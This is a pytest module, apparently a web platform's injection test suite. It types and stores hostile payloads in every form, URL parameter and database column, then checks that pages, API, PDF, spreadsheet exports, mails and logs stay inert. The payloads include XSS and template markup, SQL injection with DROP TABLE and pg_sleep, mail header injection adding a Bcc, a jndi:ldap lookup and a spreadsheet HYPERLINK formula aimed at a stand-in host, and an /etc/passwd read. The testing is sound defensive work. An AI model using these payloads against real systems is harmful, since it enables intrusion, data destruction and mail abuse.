# SPDX-License-Identifier: EUPL-1.2
"""Foreign text in every field: typed into all forms, and lying in all columns; pages, API, PDF, sheets, mails, logs."""

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import structlog
from flask import request
from openpyxl import load_workbook
from sqlalchemy import JSON, Enum, String, Text, cast, func, select, text, update
from sqlalchemy.exc import DBAPIError
from werkzeug.test import TestResponse

from samencontroleren.accounts.models import User
from samencontroleren.core import clock, logs
from samencontroleren.core.db import Base, session
from samencontroleren.core.outbox import OutboxMail, compose
from samencontroleren.core.trail import TrailRow
from samencontroleren.core.trail.rows import canonical_text
from samencontroleren.notifications import digests
from tests.attacks.stage import Shown
from tests.attacks.table import attack
from tests.attacks.target import Target, texts_of
from tests.isolation.oracle import Oracle, body_text
from tests.isolation.places import Place

MARK = "zqmerk"
"""Stands before what is typed, so that it is found wherever it comes out."""

WORKED_OUT = "9876536"
"""What a template makes of 1234567 * 8."""

MARKUP = (
    f"{MARK}\"'><script>alert(1)</script><img src=x onerror=alert(2)></textarea></title>{{{{1234567*8}}}}${{1234567*8}}"
)
RAW = ("<script>alert(1)", "<img src=x onerror", "</textarea></title>", WORKED_OUT)
SQL = f"{MARK}'; DROP TABLE users; --' OR '1'='1' /* \\'; SELECT pg_sleep(9); %' ESCAPE '"
CONTROLS = f"{MARK}\x00\x07\x08\x1b[2J\u202egnp.exe\u2066x\u2028y\r\nBcc: kwaad@kwaad.example\r\n\r\nInhoud"
UNSEEN = ("\x00", "\x07", "\x08", "\x1b", "\u202e", "\u2066")
ODD = f"{MARK} %s%n%(name)s {{0}} {{name.__class__}} ﷽ İIıſ ﬁ Ⅷ 👩‍👩‍👧 e\u0301 \ufeff\ufffe {'Z̴͛' * 20} ${{jndi:ldap://kwaad.example/a}}"


def typed_everywhere(
    target: Target, payload: str, look: Callable[[Oracle, Shown, TestResponse], list[str]], is_followed: bool = True
) -> None:
    """Type this into each form of the platform; each time look at the answer, and at the page it leads to.

    Who looks into the tables only need not follow.
    """
    stage, faults, taken = target.stage(), [], 0
    posts = [each for each in stage.forms if each.method == "post"]
    with stage.oracle() as oracle:
        for form in posts:
            with oracle.forgotten():
                answer = oracle.ask(form.actor, sent_to(form), form.filled(payload))
                taken += answer.status_code == 302
                if answer.status_code >= 500:
                    faults.append(f"{form.endpoint}: {answer.status_code}")
                faults += look(oracle, form, answer)
                if is_followed:
                    faults += look(oracle, form, followed(oracle, form, answer))
    assert faults == []
    assert len(posts) >= 35 and taken >= 10, (len(posts), taken)


def sent_to(form: Shown) -> Place:
    """The address of a form."""
    return Place(form.endpoint, form.method.upper(), form.action, None)


def followed(oracle: Oracle, form: Shown, answer: TestResponse) -> TestResponse:
    """The page a form leads to; for a form that was refused the page it stood on."""
    path = answer.headers.get("Location", form.page)
    return oracle.ask(form.actor, Place(form.endpoint, "GET", path, None))


def markup_in(_oracle: Oracle, form: Shown, answer: TestResponse) -> list[str]:
    """What of the mark-up came through as mark-up, or was worked out."""
    whole = f"{answer.headers}\n{answer.get_data(as_text=True)}" if answer.mimetype.startswith("text/") else ""
    return [f"{form.endpoint} {form.action}: {each}" for each in RAW if each in whole]


@attack(
    "I1",
    "Opmaak, scripts en sjablooncode in alle tekstvelden van alle formulieren.",
    "Overal gewone tekst; niets wordt uitgevoerd of uitgerekend.",
    ["1.2.1", "1.2.3", "1.3.7", "3.2.2"],
)
def markup_typed(target: Target) -> None:
    typed_everywhere(target, MARKUP, markup_in)


@attack(
    "I2",
    "SQL in alle tekstvelden van alle formulieren.",
    "Het is tekst: geen fout, geen tabel weg, geen wachttijd.",
    ["1.2.4"],
)
def sql_typed(target: Target) -> None:
    def tables(oracle: Oracle, form: Shown, _answer: TestResponse) -> list[str]:
        there = oracle.connection.execute(select(func.count()).select_from(User)).scalar()
        return [] if there else [form.endpoint]

    start = clock.now()
    typed_everywhere(target, SQL, tables, is_followed=False)
    assert (clock.now() - start).total_seconds() < 120


@attack(
    "I3",
    "Nullen, stuurtekens, tekens die de leesrichting omdraaien en regels met een mailkop in alle tekstvelden.",
    "Verwijderd of geweigerd; nergens een kop erbij.",
    ["1.3.3", "2.2.1", "1.3.11"],
)
def controls_typed(target: Target) -> None:
    def look(oracle: Oracle, form: Shown, answer: TestResponse) -> list[str]:
        found = [f"{form.endpoint}: {each!r}" for each in UNSEEN if each in body_of(answer)]
        return found + [f"{form.endpoint}: {each}" for each in odd_mails(oracle)]

    typed_everywhere(target, CONTROLS, look)


def body_of(answer: TestResponse) -> str:
    """The text of an answer; nothing for a picture."""
    return answer.get_data(as_text=True) if answer.mimetype.startswith("text/") else ""


def odd_mails(oracle: Oracle) -> list[str]:
    """Mails with a header more, with mark-up, or with what was typed into a long field."""
    columns = (OutboxMail.subject, OutboxMail.text, OutboxMail.html, OutboxMail.to_name, OutboxMail.to_address)
    marked = func.concat(*columns).contains(MARK)
    found = oracle.connection.execute(select(OutboxMail).where(marked)).mappings().all()
    return [str(each["subject"]) for each in found if is_odd(OutboxMail(**each))]


def is_odd(mail: OutboxMail) -> bool:
    """Whether a mail says more in its headers than its sender meant, or holds mark-up of somebody else."""
    message = compose(mail, "Samen Controleren <geen-antwoord@samencontroleren.example>")
    heads = {"Bcc", "Cc", "Reply-To"} & set(message.keys())
    many = len(message["To"].addresses) != 1 or any("\n" in str(each) for each in message.values())
    return bool(heads) or many or any(each in mail.html for each in RAW)


@attack(
    "I4",
    "Opmaakcodes voor tekst (%s, {0}), samengestelde en zeldzame tekens in alle tekstvelden.",
    "Gewone tekst; nooit een fout van de server.",
    ["1.3.10", "2.2.1"],
)
def odd_typed(target: Target) -> None:
    typed_everywhere(target, ODD, lambda _oracle, _form, _answer: [], is_followed=False)


@attack(
    "I5",
    "Opmaak in alle zoek- en filtervelden, en in alle namen en waarden van het adres van iedere pagina.",
    "Gewone tekst; niets wordt uitgevoerd.",
    ["1.2.1", "1.2.2"],
)
def markup_reflected(target: Target) -> None:
    stage, faults = target.stage(), []
    names = {name for each in stage.forms if each.method == "get" for name in (*each.typed, *each.values)}
    names |= {"next", "q", "zoek", "volgorde", "pagina", "naar", MARKUP}
    with stage.oracle() as oracle:
        for actor, place in {each[1].endpoint: each for each in stage.readers() if not each[1].is_api}.values():
            shown = Shown(actor, place.path, place.endpoint, place.path)
            client = target.app.test_client(use_cookies=False)
            headers = oracle._headers(actor, place)
            query = dict.fromkeys(sorted(names), MARKUP)
            answer = client.get(place.path, query_string=query, headers=headers, buffered=True)
            faults += markup_in(oracle, shown, answer)
            faults += [f"{place}: {answer.status_code}"] * (answer.status_code >= 500)
    assert faults == [] and len(names) > 12


LYING = "\"'><img src=x onerror=alert(2)>{{1234567*8}}"
"""Short enough for a short column."""
FORMULA = '=HYPERLINK("http://kwaad.example")'
CANARY = "(zq[bdghkmnprstvwz]{10})"


def lay(oracle: Oracle, payload: str) -> int:
    """Put this before each word of the scene in every column with text; gives the number of columns that took it.

    The triggers that refuse changes of frozen rows are off for it: it lies there as if it had come in unseen.
    """
    oracle.connection.exec_driver_sql("SET LOCAL session_replication_role = replica")
    return sum(laid(oracle, table, column, payload) for table, column in text_columns())


def text_columns() -> Iterator[tuple[Any, Any]]:
    """Every column of every table that may hold text of people."""
    for table in Base.metadata.sorted_tables:
        for column in table.columns:
            is_text = isinstance(column.type, String | JSON) and not isinstance(column.type, Enum)
            if is_text and not column.primary_key and not column.unique and table.name not in ("trail", "outbox"):
                yield table, column


def laid(oracle: Oracle, table: Any, column: Any, payload: str) -> bool:
    """Whether one column took it: there are words in it, no mail addresses, and there was room."""
    is_json = isinstance(column.type, JSON)
    inner = json.dumps(payload)[1:-1] if is_json else payload
    kind, name = "::jsonb" if is_json else "", f'"{column.name}"'
    statement = text(
        f"UPDATE \"{table.name}\" SET {name} = regexp_replace({name}::text, :sign, :by, 'g'){kind} "  # noqa: S608 -- names of our own tables
        f"WHERE {name}::text ~ :sign AND {name}::text NOT LIKE '%@%'"
    )
    point = oracle.connection.begin_nested()
    try:
        done = oracle.connection.execute(statement, {"sign": CANARY, "by": inner.replace("\\", "\\\\") + "\\1"})
    except DBAPIError:
        point.rollback()
        return False
    point.commit()
    return done.rowcount > 0


@attack(
    "I6",
    "Opmaak en sjablooncode die al in iedere kolom met tekst ligt, langs welke weg dan ook.",
    "Op iedere pagina gewone tekst; in de API geldige JSON; in kopregels niets afgebroken.",
    ["1.2.1", "1.2.3", "3.2.2", "5.4.2"],
)
def markup_stored(target: Target) -> None:
    stage, faults, shown = target.stage(), [], 0
    readers = list(stage.readers())
    with stage.oracle() as oracle:
        assert lay(oracle, LYING) >= 30
        for actor, place in readers:
            answer = oracle.ask(actor, place)
            faults += odd_answer(actor, place, answer)
            shown += "&lt;img src=x onerror=alert(2)&gt;" in body_of(answer)
    assert faults == [] and shown >= 60, (shown, faults[:10])


QUOTED = re.compile(r"""(attachment|inline); ?filename=("([^"\\]|\\.)*"|[\w.-]+)(; ?filename\*=UTF-8''[\w.%-]+)?""")
"""A file name that ends where it should (RFC 6266)."""


def odd_answer(actor: str, place: Place, answer: TestResponse) -> list[str]:
    """What is wrong with an answer in which foreign text lies."""
    found = [f"{place} {actor}: {answer.status_code}"] if answer.status_code != 200 else []
    if answer.mimetype == "text/html":
        found += [f"{place} {actor}: {each}" for each in RAW if each in body_of(answer)]
    if answer.mimetype.endswith("json"):
        json.loads(answer.get_data())
    name = answer.headers.get("Content-Disposition", "")
    if name and not QUOTED.fullmatch(name):
        found.append(f"{place} {actor}: {name}")
    return found


@attack(
    "I7",
    "Opmaak voor een pdf (plaatjes van de server, lettertypes, kapotte tags) in alles wat in het resultaat staat.",
    "De pdf toont de tekst letterlijk en bevat geen bestand van de server.",
    ["1.3.3", "1.3.6"],
)
def markup_in_pdf(target: Target) -> None:
    stage, texts = target.stage(), []
    wanted = [each for each in stage.readers() if each[1].endpoint == "sharing.document"]
    with stage.oracle() as oracle:
        lay(oracle, '<img src="/etc/passwd"/><para></b>&bogus;')
        for actor, place in wanted:
            answer = oracle.ask(actor, place)
            assert answer.status_code == 200 and b"root:" not in answer.get_data()
            texts.append("".join(body_text(answer).split()))
    assert texts and all('<imgsrc="/etc/passwd"/><para></b>&bogus;zq' in each for each in texts)


@attack(
    "I8",
    "Een formule vooraan in alles wat in een export kan komen.",
    "Geen cel begint met een teken waar een rekenprogramma een formule in leest.",
    ["1.2.10"],
)
def formulas(target: Target) -> None:
    stage, cells = target.stage(), []
    wanted = [each for each in stage.readers() if answer_kind(stage.pages, each) in ("text/csv", XLSX)]
    with stage.oracle() as oracle:
        lay(oracle, FORMULA)
        for actor, place in wanted:
            answer = oracle.ask(actor, place)
            assert answer.status_code == 200, place
            cells += cells_of(answer)
    assert wanted and cells
    assert [each for each in cells if each[:1] in ("=", "+", "-", "@", "\t", "\r", "\x00")] == []


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def answer_kind(pages: list[tuple[str, Place, TestResponse]], reader: tuple[str, Place]) -> str:
    """What kind of answer a reader was given on the walk over all pages."""
    return next(answer.mimetype for actor, place, answer in pages if (actor, place) == reader)


def cells_of(answer: TestResponse) -> list[str]:
    """The texts in the cells of an export."""
    if answer.mimetype == "text/csv":
        lines = csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
        return [cell for line in lines for cell in line]
    sheets = load_workbook(io.BytesIO(answer.get_data()))
    return [str(cell.value) for sheet in sheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


@attack(
    "I9",
    "Opmaak en regels met mailkoppen in de namen van mensen en organisaties, en dan de dagelijkse mail.",
    "In de mail gewone tekst; één ontvanger; geen kop erbij.",
    ["1.3.11", "1.2.1"],
)
def markup_mailed(target: Target) -> None:
    stage = target.stage()
    with stage.oracle() as oracle, target.app.app_context():
        lay(oracle, LYING)
        named = update(User).values(name=LYING + "\r\nBcc: kwaad@kwaad.example\r\n\r\n" + User.language)
        oracle.connection.execute(named)
        with target.app.extensions["database"].unit():
            for key in digests.due_digests(clock.today()):
                digests.send_digest(key)
        query = select(OutboxMail).where(OutboxMail.key.startswith("digest/"))
        mails = [OutboxMail(**each) for each in oracle.connection.execute(query).mappings()]
    assert len(mails) > 10 and [each.subject for each in mails if is_odd(each)] == []


@attack(
    "I10",
    "Een fout in de server op het moment dat iemand iets geheims intypt.",
    "Het log noemt de fout en het kenmerk, niet wat er is ingetypt of opgeslagen.",
    ["16.2.5", "16.5.1"],
    ["8.15.02"],
)
def typed_into_log(target: Target) -> None:
    def broken() -> str:
        typed = request.form["password"]
        database_error = text("SELECT CAST(:typed AS integer) / 0")
        session().execute(database_error, {"typed": typed})
        return typed

    written = io.StringIO()
    with pytest.MonkeyPatch.context() as patched:
        patched.setitem(target.app.view_functions, "accounts.log_in", broken)
        logs.configure(as_json=True)
        structlog.configure(logger_factory=structlog.PrintLoggerFactory(written))
        try:
            client = target.browser()
            sent = {"csrf_token": client.csrf_token, "password": "zqgeheim wachtwoord"}
            answer = client.browser.post("/inloggen", data=sent)
        finally:
            logs.configure(as_json=False)
    assert answer.status_code == 500 and "zqgeheim" not in texts_of(answer)
    lines = [json.loads(line) for line in written.getvalue().splitlines()]
    assert [each["event"] for each in lines] == ["request_failed"] and lines[0]["trace_id"]
    assert "locals" not in written.getvalue()
    assert "zqgeheim" not in written.getvalue().replace('invalid input syntax for type integer: \\"zqgeheim', "")


@attack(
    "I11",
    "Tekst in alle velden van alle formulieren, en dan kijken in het logboek.",
    "Het logboek noemt sleutels en codes, nooit de tekst.",
    ["16.2.5"],
    ["8.15.01", "8.15.02"],
)
def typed_into_trail(target: Target) -> None:
    def look(oracle: Oracle, form: Shown, _answer: TestResponse) -> list[str]:
        rows = oracle.connection.execute(select(TrailRow).where(cast(TrailRow.facts, Text).contains(MARK))).all()
        return [f"{form.endpoint}: {canonical_text(row)}" for row in rows]

    typed_everywhere(target, f"{MARK} vertrouwelijke uitleg", look, is_followed=False)
